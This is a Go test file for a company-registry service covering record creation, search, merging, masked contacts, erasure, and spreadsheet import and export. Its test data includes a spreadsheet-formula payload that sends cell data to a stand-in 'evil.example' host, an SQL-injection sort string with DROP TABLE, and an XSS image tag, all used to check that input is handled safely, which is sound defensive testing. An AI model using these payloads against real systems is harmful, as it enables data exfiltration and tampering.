package company

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"runtime"
	"strings"
	"testing"
	"time"

	"zhudian/internal/audit"
	"zhudian/internal/db"
	"zhudian/internal/db/dbtest"
	"zhudian/internal/fault"
	"zhudian/internal/org"
	"zhudian/internal/sheet"
)

// as is a person at a place who may do everything but what is denied.
func as(person, node string, deny ...string) context.Context {
	return audit.With(context.Background(), audit.Actor{
		Person: person, Account: person, Login: person, Node: node, Unit: node, Chain: "520000", Source: "web",
		Can: func(p string) bool { return !strings.Contains(strings.Join(deny, " "), p) },
	})
}

func world(t testing.TB, d *db.DB) *Service {
	t.Helper()
	if err := d.Write(context.Background(), org.Load); err != nil {
		t.Fatal(err)
	}
	return &Service{DB: d}
}

func must[T any](t testing.TB) func(T, error) T {
	return func(v T, err error) T {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
}

// madeCode makes a good credit code from a number.
func madeCode(n int) string {
	s := fmt.Sprintf("91440300MA%07d", n)
	return s + string(codeAlphabet[checkValue(s)])
}

func TestCreate(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		capital := int64(5000_0000_00)
		in := Create{
			ID: "019-a", Facts: Facts{
				Name: "凌汐科技（深圳）有限公司", CreditCode: madeCode(1), Industry: "39", Address: "深圳市南山区科技园1号",
				Capital: &capital, Status: "active", RegisteredOn: "2015-03-02", Former: []string{"深圳凌汐电子有限公司"},
			},
			Tags: []Tag{{Code: "little_giant", Source: "工信部名单", On: "2020-11-13"}},
		}
		a := must[Record](t)(s.Create(ctx, in))
		if a.Region != "440305" || a.City != "440300" || a.Province != "440000" || a.Section != "C" || a.Kind != Enterprise || a.Currency != "CNY" || a.Version != 1 || a.Number != 1 {
			t.Fatalf("stored as %+v", a)
		}
		again := must[Record](t)(s.Create(ctx, in))
		if again.ID != a.ID || again.Number != a.Number || len(again.Standing) != 1 {
			t.Errorf("the same id and content: %+v", again)
		}
		other := in
		other.Name = "别的公司"
		if _, err := s.Create(ctx, other); !fault.Has(err, "id_reused") {
			t.Errorf("the same id, other content: %v", err)
		}
		in.ID = ""
		if _, err := s.Create(ctx, in); !fault.Has(err, "company_exists") || fault.Of(err).Fields[0].Fix != a.ID {
			t.Errorf("the same code: %v", err)
		}
		b := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "只有名称"}}))
		if _, err := s.Create(ctx, Create{Facts: Facts{Name: "只 有 名 称"}}); !fault.Has(err, "company_exists") {
			t.Errorf("the same name and address: %v", err)
		}
		if b.CreditCode != "" || b.Region != "" {
			t.Errorf("a bare name: %+v", b)
		}
		_, err := s.Create(ctx, Create{
			Facts: Facts{Kind: "x", CreditCode: "91440300MA5", Industry: "ZZ", Region: "999", Status: "dead", RegisteredOn: "2199-01-01", Currency: "XXX", Capital: &capital},
			Tags:  []Tag{{Code: "nonsense"}},
		})
		for _, code := range []string{"required", "not_allowed_value", "credit_code_length", "industry_unknown", "region_unknown", "in_future", "currency_unknown"} {
			if !fault.Has(err, code) {
				t.Errorf("%s is missing in %v", code, err)
			}
		}
		if _, err := s.Create(as("x", "520602", "company.create"), in); !fault.Is(err, fault.Forbidden) {
			t.Errorf("without permission: %v", err)
		}
		evil := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: `=HYPERLINK("http://evil.example/?"&A1,"点击")`}}))
		if evil.Name != `=HYPERLINK("http://evil.example/?"&A1,"点击")` {
			t.Errorf("stored %q", evil.Name)
		}
	})
}

func TestEdit(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		a := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "深圳甲公司"}}))
		b := must[Record](t)(s.Edit(ctx, Edit{ID: a.ID, Version: 1, Facts: Facts{Name: "深圳乙公司", Address: "深圳市福田区"}, Tags: []Tag{{Code: "listed"}}}))
		if b.Version != 2 || len(b.Former) != 1 || b.Former[0] != "深圳甲公司" || b.Region != "440304" || b.TagCodes != "|listed|" {
			t.Fatalf("%+v", b)
		}
		_, err := s.Edit(ctx, Edit{ID: a.ID, Version: 1, Facts: Facts{Name: "深圳丙公司"}})
		if !fault.Has(err, "stale") || !fault.Is(err, fault.Conflict) {
			t.Fatalf("stale: %v", err)
		}
		shown := map[string]string{}
		for _, f := range fault.Of(err).Fields {
			shown[f.Name] = f.Fix
		}
		if shown["name"] != "深圳乙公司" || shown["address"] != "深圳市福田区" {
			t.Errorf("what stands now: %v", shown)
		}
		for _, q := range []string{"深圳甲公司", "乙公司"} {
			if l := must[List](t)(s.List(ctx, Query{Q: q})); len(l.Items) != 1 {
				t.Errorf("%s finds %d", q, len(l.Items))
			}
		}
		if _, err := s.Edit(ctx, Edit{ID: "nobody", Version: 1, Facts: Facts{Name: "x"}}); !fault.Is(err, fault.NotFound) {
			t.Errorf("absent: %v", err)
		}
	})
}

func TestList_search(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		for i, f := range []Facts{
			{Name: "凌汐科技（深圳）有限公司", CreditCode: madeCode(7), Industry: "39", Address: "深圳市南山区"},
			{Name: "深圳市佳泰连接器有限公司", Industry: "38", Address: "深圳市宝安区", Status: "active"},
			{Name: "广州长安化工股份有限公司", Industry: "26", Address: "广州市天河区"},
			{Name: "贵州𬭎业5G集团", Address: "贵阳市"},
			{Name: "深圳市贵州商会", Kind: Association, Address: "深圳市福田区"},
			{Name: "ACME Tools (China) Co., Ltd."},
		} {
			c := Create{Facts: f}
			if i == 1 {
				c.Tags = []Tag{{Code: "high_tech"}}
			}
			must[Record](t)(s.Create(ctx, c))
		}
		names := func(q Query) string {
			t.Helper()
			var out []string
			for _, c := range must[List](t)(s.List(ctx, q)).Items {
				out = append(out, string([]rune(c.Name)[:4]))
			}
			return strings.Join(out, " ")
		}
		for q, want := range map[string]string{
			"凌汐": "凌汐科技", "汐": "凌汐科技", "接器": "深圳市佳", "连接器有限": "深圳市佳", "司": "深圳市佳 凌汐科技 广州长安", "接连": "",
			"jtljq": "深圳市佳", "ljq": "深圳市佳", "jiatai": "深圳市佳", "changan": "广州长安", "zahg": "广州长安", "cahg": "广州长安",
			madeCode(7): "凌汐科技", strings.ToLower(madeCode(7)[:9]): "凌汐科技", madeCode(7)[8:17]: "凌汐科技",
			"acme": "ACME", "ＡＣＭＥ": "ACME", "acm": "ACME", "𬭎": "贵州𬭎业", "𬭎业": "贵州𬭎业", "5g": "贵州𬭎业", "深圳 商会": "深圳市贵",
			"、。": "", "\"OR": "", "'": "", "深圳\" OR \"广州": "", "深*": "深圳市佳 深圳市贵 凌汐科技",
		} {
			if got := strings.Fields(names(Query{Q: q})); strings.Join(got, " ") != strings.Join(strings.Fields(want), " ") {
				t.Errorf("%q finds %q, want %q", q, got, want)
			}
		}
		for _, c := range []struct {
			q    Query
			want int
		}{
			{Query{City: "440300"}, 3},
			{Query{Province: "440000"}, 4},
			{Query{Section: "C"}, 3},
			{Query{Industry: "38"}, 1},
			{Query{Tag: "high_tech"}, 1},
			{Query{Kind: Association}, 1},
			{Query{Status: "active"}, 1},
			{Query{Region: "440306", Q: "深圳"}, 1},
			{Query{Q: "深圳", Kind: Association, Total: true}, 1},
		} {
			l := must[List](t)(s.List(ctx, c.q))
			if len(l.Items) != c.want || c.q.Total && *l.Total != int64(c.want) {
				t.Errorf("%+v gives %d", c.q, len(l.Items))
			}
		}
		if got := names(Query{Sort: "name"}); !strings.HasPrefix(got, "ACME 贵州𬭎业 广州长安 凌汐科技") && !strings.HasPrefix(got, "ACME 广州长安 贵州𬭎业 凌汐科技") {
			t.Errorf("by name: %s", got)
		}
		for _, q := range []Query{
			{Sort: "amount;DROP TABLE ledger--"},
			{City: "440305"},
			{City: "x"},
			{Tag: "x"},
			{Status: "x"},
			{Kind: "x"},
			{Section: "39"},
			{Page: db.Page{Limit: 201}},
			{Page: db.Page{Limit: -1}},
			{Page: db.Page{After: "x"}},
		} {
			if _, err := s.List(ctx, q); !fault.Is(err, fault.Malformed) {
				t.Errorf("%+v: %v", q, err)
			}
		}
	})
}

func TestList_pages(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		var in []Create
		for i := range 23 {
			in = append(in, Create{Facts: Facts{Name: fmt.Sprintf("同名公司%d号", i%3), Address: itoa(i)}})
		}
		must[[]Record](t)(s.CreateAll(ctx, in))
		for _, q := range []Query{{}, {Sort: "name"}, {Q: "公司"}, {Q: "公司", Sort: "name"}} {
			seen := map[string]bool{}
			q.Limit = 5
			for pages := 0; ; pages++ {
				l := must[List](t)(s.List(ctx, q))
				for _, c := range l.Items {
					if seen[c.ID] {
						t.Fatalf("%+v shows %s twice", q, c.ID)
					}
					seen[c.ID] = true
				}
				if q.After = l.Next; q.After == "" {
					break
				}
				if pages > 6 {
					t.Fatal("no end")
				}
			}
			if len(seen) != 23 {
				t.Errorf("%+v shows %d of 23", q, len(seen))
			}
		}
	})
}

func TestSuggest(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		a := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "深圳市佳泰连接器有限公司", CreditCode: madeCode(9), Former: []string{"佳泰五金厂"}}}))
		must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "深圳市通达包装有限公司"}}))
		for _, c := range []struct{ name, code, why string }{
			{"深圳市佳泰连接器有限公司", "", "same_name"},
			{"深圳市佳泰连接器（有限公司", "", "same_key"},
			{"佳泰连接器（深圳）股份有限公司", "", "same_key"},
			{"佳泰五金厂", "", "former_name"},
			{"佳泰精密连接器", "", "similar"},
			{"广东佳泰", "", "similar"},
			{"别的", madeCode(9), "same_code"},
			{"完全不同", "", ""},
			{"佳", "", ""},
			{"", "", ""},
		} {
			out := must[Suggested](t)(s.Suggest(ctx, Suggest{Name: c.name, CreditCode: c.code}))
			why := ""
			if len(out.Hints) > 0 {
				why = out.Hints[0].Why
			}
			if why != c.why || why != "" && out.Hints[0].ID != a.ID {
				t.Errorf("%s: %+v, want %s", c.name, out.Hints, c.why)
			}
		}
		if out := must[Suggested](t)(s.Suggest(ctx, Suggest{Name: a.Name, Except: a.ID})); len(out.Hints) != 0 {
			t.Errorf("the record itself: %+v", out.Hints)
		}
	})
}

func TestMerge(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		a := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "深圳甲公司", Address: "深圳市南山区"}, Tags: []Tag{{Code: "listed"}}}))
		b := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "深圳甲有限公司", CreditCode: madeCode(3), Industry: "39"}, Tags: []Tag{{Code: "listed"}, {Code: "high_tech"}}}))
		c := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "另一家", CreditCode: madeCode(4)}}))
		must[Contact](t)(s.AddContact(ctx, AddContact{Company: b.ID, Person: Person{Name: "李四", Phone: "13800138000"}, Basis: "card"}))
		if _, err := s.Merge(ctx, Merge{Keep: b.ID, KeepSeen: 1, Gone: c.ID, GoneSeen: 1}); !fault.Has(err, "two_codes") {
			t.Errorf("two codes: %v", err)
		}
		if _, err := s.Merge(ctx, Merge{Keep: a.ID, KeepSeen: 9, Gone: b.ID, GoneSeen: 1}); !fault.Has(err, "stale") {
			t.Errorf("stale: %v", err)
		}
		m := must[Merged](t)(s.Merge(ctx, Merge{Keep: a.ID, KeepSeen: 1, Gone: b.ID, GoneSeen: 1, Take: []string{"name"}}))
		r := m.Record
		if r.ID != a.ID || r.Name != "深圳甲有限公司" || r.CreditCode != madeCode(3) || r.Industry != "39" || r.Address != "深圳市南山区" || r.TagCodes != "|high_tech|listed|" || m.Contacts != 1 {
			t.Fatalf("%+v", m)
		}
		if got := must[Record](t)(s.Get(ctx, ByID{b.ID})); got.ID != a.ID || got.Asked != b.ID {
			t.Errorf("the old id gives %+v", got)
		}
		for _, q := range []string{"深圳甲公司", "甲有限公司", madeCode(3)} {
			if l := must[List](t)(s.List(ctx, Query{Q: q})); len(l.Items) != 1 || l.Items[0].ID != a.ID {
				t.Errorf("%s finds %+v", q, l.Items)
			}
		}
		err := d.Read(context.Background(), func(ctx context.Context, tx *db.Tx) error {
			list, err := Briefs(ctx, tx, []string{a.ID, b.ID, c.ID, "x"})
			if list[b.ID].ID != a.ID || list[a.ID].Industry != "C39" || list[a.ID].Origin != "440300" || len(list) != 3 {
				t.Errorf("briefs %+v", list)
			}
			n, e := db.One[int64](ctx, tx, `SELECT count(*) FROM ledger_alias WHERE company_id = ? AND same_as = ?`, b.ID, a.ID)
			if n != 1 {
				t.Errorf("%d aliases in the ledger", n)
			}
			return errors.Join(err, e)
		})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := s.Edit(ctx, Edit{ID: b.ID, Version: 2, Facts: Facts{Name: "x"}}); !fault.Has(err, "merged") {
			t.Errorf("editing the gone record: %v", err)
		}
	})
}

func TestContacts(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		mine, neighbour, city := as("zhang", "520602"), as("wu", "520603"), as("li", "520600")
		c := must[Record](t)(s.Create(mine, Create{Facts: Facts{Name: "甲公司"}}))
		k := must[Contact](t)(s.AddContact(mine, AddContact{Company: c.ID, Person: Person{Name: "<img src=x onerror=alert(1)>", Phone: "+86 138-0013-8000", Email: "a.b@example.com", Note: "爱喝茶"}, Basis: "card"}))
		if k.Phone != "138****8000" || k.Email != "a***@example.com" || k.Note != "" || k.Name != "<img src=x onerror=alert(1)>" {
			t.Fatalf("shown as %+v", k)
		}
		for what, ctx := range map[string]context.Context{"own": mine, "city": city, "neighbour": neighbour} {
			seen := what != "neighbour"
			for _, in := range []Contacts{{Company: c.ID}, {Q: "8000"}, {Q: "１３８００１３８０００"}, {Q: "<IMG src=x onerror=alert(1)>"}} {
				if l := must[ContactList](t)(s.Contacts(ctx, in)); (len(l.Items) == 1) != seen {
					t.Errorf("%s sees %d by %+v", what, len(l.Items), in)
				}
			}
			if l := must[List](t)(s.List(ctx, Query{Q: "8000"})); (len(l.Items) == 1) != seen {
				t.Errorf("%s finds the company by phone: %v", what, l.Items)
			}
			if _, err := s.Reveal(ctx, ByID{k.ID}); fault.Is(err, fault.NotFound) == seen {
				t.Errorf("%s reveals: %v", what, err)
			}
		}
		if l := must[ContactList](t)(s.Contacts(mine, Contacts{Q: "9999"})); len(l.Items) != 0 {
			t.Error("a wrong tail finds somebody")
		}
		if _, err := s.AddContact(mine, AddContact{Company: c.ID, Person: Person{Name: "同一人", Phone: "13800138000"}, Basis: "card"}); !fault.Has(err, "contact_exists") {
			t.Errorf("twice: %v", err)
		}
		if _, err := s.AddContact(mine, AddContact{Company: c.ID, Node: "520603", Person: Person{Name: "x"}, Basis: "card"}); !fault.Is(err, fault.NotFound) {
			t.Errorf("for another county: %v", err)
		}
		_, err := s.AddContact(mine, AddContact{Company: c.ID, Person: Person{Phone: "12345678901", Email: "x"}, Basis: "?"})
		for _, code := range []string{"required", "phone", "email", "not_allowed_value"} {
			if !fault.Has(err, code) {
				t.Errorf("%s is missing in %v", code, err)
			}
		}
		e := must[Contact](t)(s.EditContact(mine, EditContact{ID: k.ID, Version: 1, Person: Person{Name: "王五", Phone: k.Phone, Email: k.Email}, Basis: "consent"}))
		full := must[Contact](t)(s.Reveal(mine, ByID{k.ID}))
		if e.Version != 2 || full.Phone != "13800138000" || full.Email != "a.b@example.com" || full.Name != "王五" {
			t.Errorf("a masked value came back as %+v", full)
		}
		if _, err := s.Erase(mine, Erase{ID: k.ID}); !fault.Is(err, fault.Invalid) {
			t.Errorf("without a reason: %v", err)
		}
		if gone := must[Contact](t)(s.Erase(mine, Erase{ID: k.ID, Reason: "本人要求"})); !gone.Erased || gone.Name != "" {
			t.Errorf("erased: %+v", gone)
		}
		if _, err := s.Reveal(mine, ByID{k.ID}); !fault.Has(err, "erased") {
			t.Errorf("after erasing: %v", err)
		}
		noTrace(t, d, "13800138000", "王五", "a.b@example.com", "爱喝茶")
	})
}

// noTrace looks for a person's data in every text the library and the trail keep.
func noTrace(t *testing.T, d *db.DB, secrets ...string) {
	t.Helper()
	err := d.Read(context.Background(), func(ctx context.Context, tx *db.Tx) error {
		for _, q := range []string{
			`SELECT sealed || phone_tail || phone_digest || name_digest || source FROM company_contact`, `SELECT object || change FROM audit_record`,
			`SELECT secret FROM company_key`,
		} {
			list, err := db.All[string](ctx, tx, q)
			if err != nil {
				return err
			}
			for _, x := range secrets {
				if strings.Contains(strings.Join(list, "\n"), x) {
					t.Errorf("%s still holds %s", q, x)
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestReveal_limit(t *testing.T) {
	day := time.Date(2020, 12, 16, 1, 0, 0, 0, time.UTC)
	d := dbtest.Open(t, db.SQLite, dbtest.Clock(func() time.Time { return day }))
	s := world(t, d)
	ctx := as("zhang", "520602")
	c := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "甲公司"}}))
	k := must[Contact](t)(s.AddContact(ctx, AddContact{Company: c.ID, Person: Person{Name: "李四"}, Basis: "card"}))
	for range RevealLimit {
		must[Contact](t)(s.Reveal(ctx, ByID{k.ID}))
	}
	if _, err := s.Reveal(ctx, ByID{k.ID}); !fault.Is(err, fault.TooMany) {
		t.Fatalf("one too many: %v", err)
	}
	must[Contact](t)(s.Reveal(as("li", "520602"), ByID{k.ID}))
	day = day.Add(24 * time.Hour)
	must[Contact](t)(s.Reveal(ctx, ByID{k.ID}))
}

func TestPhone(t *testing.T) {
	for in, want := range map[string]string{
		"+86 138-0013-8000": "13800138000", "１３８００１３８０００": "13800138000", "12345678901": "", "0755-12345678": "075512345678",
		"(0755) 1234567": "07551234567", "400-800-1234": "4008001234", "+852 2345 6789": "+85223456789", "abc": "", "": "", "138001380001": "", "82345678": "82345678",
	} {
		if got, bad := Phone(in); got != want || (bad != nil) != (want == "") {
			t.Errorf("%q: %q %v", in, got, bad)
		}
	}
}

// dirtyTable makes rows in the manner of real registry files.
func dirtyTable(n int) []byte {
	var b bytes.Buffer
	b.WriteString("\uFEFF企业名称,统一社会信用代码,注册日期,企业类型,注册资金,经营范围,所在省份,地区,注册地址\n")
	capital := []string{"50(万人民币元)", "2000（万元）", "N/A", "12.5(万美元)", "300(万港元)", "100(万元(人民币))", "88万人民币"}
	city := [][2]string{{"深圳", "深圳市南山区"}, {"广州", "广州市海珠区"}, {"佛山", "佛山市南海区"}, {"东莞", "东莞市长安镇"}}
	words := []string{"凌汐", "佳泰", "宏图", "穗丰", "研创", "裕通", "鹏达", "科远", "亿能", "恒晟", "启源", "蓝岸"}
	trades := []string{"科技", "连接器", "线路", "智能装备", "包装", "照明", "传动技术", "动力电池"}
	for i := range n {
		c := city[i%len(city)]
		fmt.Fprintf(&b, "%s市%s%s%d（集团）有限公司,%s,%04d-%02d-%02d,%s,%s,\"%s的研发、生产；货物及技术进出口。(依法须经批准的项目，经相关部门批准后方可开展经营活动)〓\",广东,%s,%s%d路%d号\n",
			c[0], words[i%len(words)], trades[i%len(trades)], i, madeCode(i), 1990+i%30, 1+i%12, 1+i%28, []string{"N/A", "有限责任公司", "个体工商户"}[i%3],
			capital[i%len(capital)], trades[i%len(trades)], c[0], c[1], i%97, i)
	}
	return b.Bytes()
}

func runImport(ctx context.Context, t testing.TB, s *Service, data []byte, name string, change func(*Import)) (Imported, []sheet.Refused) {
	t.Helper()
	var refused []sheet.Refused
	in := Import{
		Table: bytes.NewReader(data), Size: int64(len(data)), Name: name, Source: "import/test", Limits: sheet.Options{Bytes: 1 << 30, Rows: -1},
		Report: func(r sheet.Refused) error { refused = append(refused, r); return nil },
	}
	if change != nil {
		change(&in)
	}
	out, err := s.Import(ctx, in)
	if err != nil {
		t.Fatal(err)
	}
	return out, refused
}

func TestImport(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		data := append(dirtyTable(2500), []byte(strings.Join([]string{
			"坏校验公司,91440300MA0000001X,2001-01-01,N/A,N/A,N/A,广东,深圳,深圳市福田区",   // 2502 check digit
			"丢位公司,9.1440300E+17,2001-01-01,N/A,N/A,N/A,广东,深圳,深圳市福田区",         // 2503 number
			"坏日公司,,2001-02-30,N/A,看情况,N/A,广东,深圳,深圳市福田区",                      // 2504 date and capital
			",,2001-02-20,N/A,N/A,N/A,广东,深圳,深圳市福田区",                          // 2505 no name
			"无码公司,N/A,2001-02-20,N/A,N/A,N/A,广东,深圳,深圳市福田区1号",                 // 2506 stored
			"无 码 公司,,2001-02-20,N/A,N/A,N/A,广东,深圳,深圳市福田区１号",                  // 2507 the same
			"重码公司," + madeCode(3) + ",2001-02-20,N/A,N/A,N/A,广东,深圳,深圳市福田区2号", // 2508 code of row 5
			"贵州省广东商会,,N/A,N/A,N/A,N/A,贵州,贵阳,贵阳市观山湖区",                         // 2509 association
			"\"开口公司,,N/A,N/A,N/A,N/A,广东,深圳,x",                                // 2510 open quote
			"末行公司,,1999/9/9,N/A,1亿元,N/A,广东,深圳,深圳市福田区3号", "",
		}, "\n"))...)
		dry, refusedDry := runImport(ctx, t, s, data, "a.csv", func(in *Import) { in.DryRun = true })
		if l := must[List](t)(s.List(ctx, Query{})); len(l.Items) != 0 {
			t.Fatal("a dry run stored something")
		}
		first, refused := runImport(ctx, t, s, data, "a.csv", nil)
		want := sheet.Tally{Done: 2510, Created: 2503, Refused: 7}
		if first.Tally != want || dry.Tally != want || len(refusedDry) != 7 {
			t.Errorf("first run %+v, dry run %+v, want %+v", first.Tally, dry.Tally, want)
		}
		var report []string
		for _, r := range refused {
			var codes []string
			for _, p := range r.Problems {
				codes = append(codes, p.Column+":"+p.Code)
			}
			report = append(report, fmt.Sprint(r.Row, " ", strings.Join(codes, ",")))
		}
		if got := strings.Join(report, "; "); got != "2502 credit_code:check_digit; 2503 credit_code:credit_code_number; 2504 capital:not_a_number,registered_on:not_a_date; "+
			"2505 name:required; 2507 name:duplicate_row; 2508 name:duplicate_row; 2510 :quote_open" {
			t.Errorf("report: %s", got)
		}
		second, _ := runImport(ctx, t, s, data, "a.csv", nil)
		if second.Tally != (sheet.Tally{Done: 2510, Unchanged: 2503, Refused: 7}) {
			t.Errorf("second run %+v", second.Tally)
		}
		if l := must[List](t)(s.List(ctx, Query{Q: "广东商会", Kind: Association})); len(l.Items) != 1 {
			t.Error("the chamber is no association")
		}
		changed := bytes.ReplaceAll(data, []byte("2000（万元）"), []byte("2001（万元）"))
		third, _ := runImport(ctx, t, s, changed, "a.csv", nil)
		if third.Updated != 357 || third.Created != 0 {
			t.Errorf("changed capital: %+v", third.Tally)
		}
		n := 0
		out := must[[]audit.Record](t)(trail(d, must[List](t)(s.List(ctx, Query{Q: madeCode(1)})).Items[0].ID))
		for _, r := range out {
			if r.Action == "company.edit" && strings.Contains(r.Change, "200100000000") == false && strings.Contains(r.Change, "2001000000") {
				n++
			}
		}
		if n != 1 {
			t.Errorf("the change is not in the trail: %+v", out)
		}
	})
}

func trail(d *db.DB, id string) (out []audit.Record, err error) {
	err = d.Read(context.Background(), func(ctx context.Context, tx *db.Tx) error {
		out, err = audit.History(ctx, tx, "company/"+id, 20)
		return err
	})
	return out, err
}

// Rows that lack what others have lead to the same end whatever the order, and a second run changes nothing.
func TestImport_adoptsCodes(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, d *db.DB) {
		s := world(t, d)
		ctx := as("zhang", "520602")
		a := must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "甲公司", Address: "一号"}}))
		table := "企业名称,信用代码,地址,注册资本（万元）,资质\n甲公司," + madeCode(1) + ",一号,500,高新、上市\n甲公司," + madeCode(2) + ",一号,600,\n甲公司,,一号,700,\n"
		first, refused := runImport(ctx, t, s, []byte(table), "a.csv", nil)
		if first.Tally != (sheet.Tally{Done: 3, Created: 1, Updated: 1, Refused: 1}) || refused[0].Problems[0].Code != "duplicate_row" {
			t.Fatalf("%+v %+v", first.Tally, refused)
		}
		got := must[Record](t)(s.Get(ctx, ByID{a.ID}))
		if got.CreditCode != madeCode(1) || *got.Capital != 500_0000_00 || got.TagCodes != "|high_tech|listed|" {
			t.Errorf("%+v", got)
		}
		second, _ := runImport(ctx, t, s, []byte(table), "a.csv", nil)
		if second.Tally != (sheet.Tally{Done: 3, Unchanged: 2, Refused: 1}) {
			t.Errorf("second run %+v", second.Tally)
		}
		third, refused := runImport(ctx, t, s, []byte("企业名称,地址\n甲公司,一号\n"), "a.csv", nil)
		if third.Refused != 1 || refused[0].Problems[0].Code != "ambiguous" {
			t.Errorf("two of one name: %+v", refused)
		}
	})
}

// What is exported reads back without a change.
func TestExport_roundTrip(t *testing.T) {
	d := dbtest.Open(t, db.SQLite)
	s := world(t, d)
	ctx := as("zhang", "520602")
	runImport(ctx, t, s, dirtyTable(300), "a.csv", nil)
	must[Record](t)(s.Create(ctx, Create{Facts: Facts{Name: "=1+1有限公司", Industry: "39", Status: "active", Former: []string{"老名"}}, Tags: []Tag{{Code: "china500"}}}))
	for _, format := range []sheet.Format{sheet.CSV, sheet.XLSX} {
		var b bytes.Buffer
		if n := must[int64](t)(s.Export(ctx, Export{Format: format}, &b)); n != 301 {
			t.Errorf("%d rows", n)
		}
		back, refused := runImport(ctx, t, s, b.Bytes(), "a."+string(format), nil)
		if back.Tally != (sheet.Tally{Done: 301, Unchanged: 301}) {
			t.Errorf("%s: %+v %+v", format, back.Tally, refused)
		}
	}
	var b bytes.Buffer
	if _, err := s.Export(as("x", "520602", "company.export"), Export{}, &b); !fault.Is(err, fault.Forbidden) {
		t.Errorf("without permission: %v", err)
	}
}

// BenchmarkImport reports rows per second and peak memory of 100,000 dirty rows; ZHUDIAN_TABLE names a file to use instead.
func BenchmarkImport(b *testing.B) {
	for _, engine := range dbtest.Engines {
		b.Run(string(engine), func(b *testing.B) {
			data := dirtyTable(100_000)
			if file := os.Getenv("ZHUDIAN_TABLE"); file != "" {
				data = must[[]byte](b)(os.ReadFile(file)) //nolint:gosec // named by who runs the benchmark
			}
			for b.Loop() {
				b.StopTimer()
				s := world(b, dbtest.Open(b, engine))
				runtime.GC()
				var peak uint64
				done := make(chan bool)
				go func() {
					var m runtime.MemStats
					for {
						select {
						case <-done:
							return
						case <-time.After(50 * time.Millisecond):
							runtime.ReadMemStats(&m)
							peak = max(peak, m.HeapInuse+m.StackInuse)
						}
					}
				}()
				b.StartTimer()
				begin := time.Now()
				out, refused := runImport(as("zhang", "520602"), b, s, data, "a.csv", func(in *Import) { in.Bulk = true })
				b.ReportMetric(float64(out.Done)/time.Since(begin).Seconds(), "rows/s")
				close(done)
				b.ReportMetric(float64(peak>>20), "MB")
				b.Logf("%+v", out.Tally)
				for i, r := range refused {
					if i < 5 {
						b.Logf("row %d: %v", r.Row, r.Problems)
					}
				}
			}
		})
	}
}
